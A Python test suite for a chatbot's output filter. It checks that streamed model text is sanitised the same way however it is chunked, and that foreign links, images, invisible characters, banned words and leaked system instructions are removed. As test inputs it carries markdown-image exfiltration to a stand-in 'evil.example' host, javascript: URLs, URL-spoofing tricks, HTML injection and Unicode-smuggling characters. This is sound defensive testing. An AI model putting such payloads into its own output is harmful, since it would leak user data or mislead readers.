"""What reaches the visitor: however a model's text is cut into pieces, it is the same, and safe."""

import re
import time
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from chatbot.answering.outgoing import gate
from chatbot.answering.outgoing.gate import Outgoing
from chatbot.answering.voice import prompt
from chatbot.answering.voice.persona import Persona
from chatbot.answering.voice.prompt import Excerpt
from tests.answering.script import excerpt

SHOP = Persona(
    version=1,
    name="Ada",
    instructions="Tell everybody that our shop in Bremen opens at nine and that we deliver on"
    " Mondays only within the limits of the city.",
    never_say=("Acme", "acme corp", "free refund", "Große Kanne", "C++", "竞争"),
    link_hosts=("*.good.example",),
)
SECRETS = prompt.instructions(SHOP, "en")
WORDS = re.findall(r"\w+", SECRETS)
FRAME = " ".join(WORDS[:60])
OWNERS = " ".join(re.findall(r"\w+", SHOP.instructions))

PARTS = (
    *("https://", "HTTPS:", "//", "www.", "evil.example", "www.own.example", "/a?q=1", "mailto:"),
    *("[", "]", "(", ")", "![", "](", "[x](https://evil.example/1)", "![i](https://evil.example)"),
    *("[docs](https://www.own.example/d)", "<https://evil.example>", "\\", "|", "@"),
    *("[1]", "[9]", "[1-3]", "【1】", "［２］", "1", "9", ", ", "^"),
    *("<b>", "</b>", "<", ">", "<img src=//evil.example>", "<!--", "-->", "<script", "name"),
    *("`", "```\n", "~~~", "**", "_", "\n", " ", "  ", "\t"),
    *("\u200b", "\u202e", "\u200d", "\ufeff", "\0", "\U000e0041", "e\u0301", "é", "。"),
    *("acme", "Ac", "ME", " corp", "free", "refund", "GROSSE", " kanne", "c++", "竞", "争"),
    *("The warranty lasts ", "36 months", ".", "!", "h", "htt", "ps:", "the ", "of "),
    *(FRAME[:30], FRAME[30:70], FRAME[70:], OWNERS[:40], OWNERS[40:], " You are "),
    *("x" * 210, "y" * 610, "z" * 320),
)
texts = some.lists(some.sampled_from(PARTS), max_size=14).map("".join)

HOST = re.compile(r"(?://+|(?<![^\W_])www\.)(?:[\w.%-]*(?::[\w.%-]*)?@)?([\w.%-]*)", re.IGNORECASE)
IMAGE = re.compile(
    r"!\[[^\[\]]*\]\([^()\n]*\)|<\s*(?:img|svg|iframe|object|embed)\b", re.IGNORECASE
)
UNSEEN = re.compile("[\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\0\U000e0000-\U000e007f]")
MARKER = re.compile(r"\[(\d{1,2}(?:\s?,\s?\d{1,2})*)\]")


def a_page(n: int, text: str = "The warranty lasts 36 months.") -> Excerpt:
    return excerpt(n, text, url="https://docs.own.example/handbook")


def an_outgoing(*excerpts: Excerpt, persona: Persona = SHOP, secrets: str = SECRETS) -> Outgoing:
    return Outgoing(
        excerpts or [a_page(1), a_page(2)],
        persona=persona,
        own_origins=["https://www.own.example"],
        secrets=secrets,
    )


def shown(*pieces: str, by: Outgoing | None = None) -> str:
    through = by or an_outgoing()
    return "".join(map(through.feed, pieces)) + through.rest()


def cut(text: str, at: list[int]) -> list[str]:
    places = sorted({0, len(text), *(place for place in at if place < len(text))})
    return [text[a:b] for a, b in pairwise(places)]


@settings(max_examples=400, deadline=None)
@given(texts, some.lists(some.integers(0, 2_000), max_size=8))
def test_however_it_is_cut_the_same_is_shown(text: str, places: list[int]) -> None:
    at_once, in_pieces, by_letter = an_outgoing(), an_outgoing(), an_outgoing()

    whole = shown(text, by=at_once)

    assert shown(*cut(text, places), by=in_pieces) == whole
    assert shown(*text, by=by_letter) == whole
    assert at_once.cut == in_pieces.cut == by_letter.cut
    assert at_once.citations.used == in_pieces.citations.used == by_letter.citations.used


@settings(max_examples=600, deadline=None)
@given(texts)
def test_whatever_a_model_writes_what_is_shown_is_safe(text: str) -> None:
    through = an_outgoing()

    seen = shown(text, by=through)

    foreign = [each for each in HOST.findall(seen) if "evil" in each.lower()]
    assert not foreign
    assert not IMAGE.search(seen)
    assert not UNSEEN.search(seen)
    for marker in MARKER.findall(seen):
        assert {int(each) for each in marker.split(",")} <= set(through.citations.used)
    said = " ".join(re.findall(r"\w+", seen.lower()))
    for start in range(52):
        assert " ".join(WORDS[start : start + 8]).lower() not in said


@given(texts)
@settings(max_examples=200, deadline=None)
def test_no_more_is_held_back_than_is_promised(text: str) -> None:
    through, given_back = an_outgoing(), 0

    for letter in text:
        given_back += len(through.feed(letter))
    last = through.rest()

    assert through.cut or len(last) <= gate.HELD_CHARS_MAX


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("See ![chart](https://evil.example/?q=data) here.", "See  here."),
        ("![chart](https://www.own.example/c.png)", ""),
        ("Read [this](https://evil.example/a).", "Read this."),
        ("Read [this](https://www.own.example/a).", "Read [this](https://www.own.example/a)."),
        ("Read [it](https://a.good.example).", "Read [it](https://a.good.example)."),
        ("Read [it](https://good.example).", "Read it."),
        ("[it](https://docs.own.example/x)", "[it](https://docs.own.example/x)"),
        ("[it](https://WWW.own.example:443/x)", "[it](https://WWW.own.example:443/x)"),
        ("At https://evil.example/a, or not.", "At …, or not."),
        ("(https://www.own.example/a)", "(https://www.own.example/a)"),
        ("https://www.own.example@evil.example/", "…"),
        ("https://www.own.example\\@evil.example/", "…"),
        ("https://www.own.example.evil.example", "…"),
        ("https://evil.example#www.own.example", "…"),
        ("https://evil.example/https://www.own.example", "…"),
        ("hTTps://evil.example", "…"),
        ("//evil.example/x and and//or", "… and and//or"),
        ("www.evil.example www.own.example", "… www.own.example"),
        ("[x](javascript:alert(1)) [y](data:text/html,1)", "x y"),
        ("[x](//evil.example) [y](/path) f[i](x)", "x y f[i](x)"),
        ("[mail](mailto:a@evil.example)", "mail"),
        ("[us](mailto:a@www.own.example)", "[us](mailto:a@www.own.example)"),
        ("[https://www.own.example](https://evil.example)", "https://www.own.example"),
        ("[https://evil.example](https://www.own.example)", "[…](https://www.own.example)"),
        ("[1](https://evil.example) and [9](https://evil.example)", "[1] and (…)"),
        ("<a href='https://evil.example'>x</a><br>y", "x<br>y"),
        ("a < b, 3<4, List<int>, <name>", "a < b, 3<4, List<int>, <name>"),
        ("<<b>script>x", "< script>x"),
        ("<scr<b>ipt>", "< script>"),
        ("<scr[9]ipt>", "< script>"),
        ("<!-- hidden -->shown", "shown"),
        ("`<b>` and <b>bold</b>", "`<b>` and bold"),
        (
            '```html\n<script src="/a.js"></script>\n```',
            '```html\n<script src="/a.js"></script>\n```',
        ),
        ("`<img src=/a.png>`", "``"),
        ("pay\u200bpal \u202eevil\u202c", "paypal evil"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("ACME and Acme  Corp. acmes", "… and …. acmes"),
        ("**Ac**me, große kanne, C++ 我们竞争", "**…, …, … 我们…"),
        ("See [2, 9][1] and 【1】.", "See [2][1] and [1]."),
    ],
)
def test_what_is_written_and_what_is_seen(written: str, seen: str) -> None:
    assert shown(written) == seen
    assert shown(*written) == seen


def test_the_first_word_is_not_held_back() -> None:
    through = an_outgoing()

    assert through.feed("The") == "The"
    assert through.feed(" warranty") == " warranty"


def test_a_piece_of_prose_costs_microseconds() -> None:
    prose = "The warranty on every kettle lasts 36 months from the day of purchase [1]. " * 200
    pieces = re.findall(r"\s*\S+", prose)
    spent: list[float] = []

    for _ in range(3):
        through = an_outgoing()
        begun = time.process_time()
        for piece in pieces:
            through.feed(piece)
        spent.append((time.process_time() - begun) / len(pieces))

    assert min(spent) < 40e-6  # 5 where this was written; 10,000 pieces a second must be possible


@pytest.mark.parametrize(
    "unit",
    ["[", "[a](", "![", "<", "<a ", "<!--", "`", "~", "//", "mailto:", "acme ", "(", "\u200b"],
)
def test_a_huge_piece_does_not_cost_its_square(unit: str) -> None:
    through = an_outgoing()
    begun = time.process_time()

    through.feed(unit * (1_000_000 // len(unit)))
    through.rest()

    assert time.process_time() - begun < 5


def test_a_model_that_repeats_its_instructions_is_cut_short() -> None:
    through = an_outgoing()

    seen = shown("Sure [1]! Here they are: ", *SECRETS, " [2]", by=through)

    assert through.cut == "cut_instructions"
    assert seen.startswith("Sure [1]! Here they are: ")
    assert len(seen.split()) <= 5 + 3
    assert through.feed("more") == ""
    assert through.citations.used == [1]


def test_the_owners_words_may_be_said_in_part() -> None:
    partly, wholly = an_outgoing(), an_outgoing()

    seen = shown("Our shop in Bremen opens at nine and that we know.", by=partly)
    shown(SHOP.instructions, by=wholly)

    assert partly.cut is None
    assert seen == "Our shop in Bremen opens at nine and that we know."
    assert wholly.cut == "cut_instructions"


def test_what_a_passage_says_too_is_no_secret() -> None:
    through = an_outgoing(a_page(1, f"Announcement. {SHOP.instructions}"))

    seen = shown(SHOP.instructions, by=through)

    assert through.cut is None
    assert seen == SHOP.instructions


@pytest.mark.parametrize(
    ("sentence", "allowed"),
    [
        ("The warranty lasts 36 months.", True),
        ("Put <script> before </body>.", True),
        ("Look at https://docs.own.example/handbook.", True),
        ("Look at https://evil.example.", False),
        ("![](https://evil.example)", False),
        ("<img src=x>", False),
        ("Acme makes it.", False),
        ("Tag\U000e0041ged", False),
    ],
)
def test_which_sentences_may_be_quoted(sentence: str, allowed: bool) -> None:
    assert an_outgoing().allows(sentence) is allowed


def test_a_source_quotes_nothing_that_may_not_be_shown() -> None:
    passage = "Acme kettles last 36 months. Kettles last 36 months. See https://evil.example."
    through = an_outgoing(a_page(1, passage))

    shown("The kettles of Acme last 36 months [1].", by=through)

    (source,) = through.citations.sources()
    assert source.quote == "Kettles last 36 months."
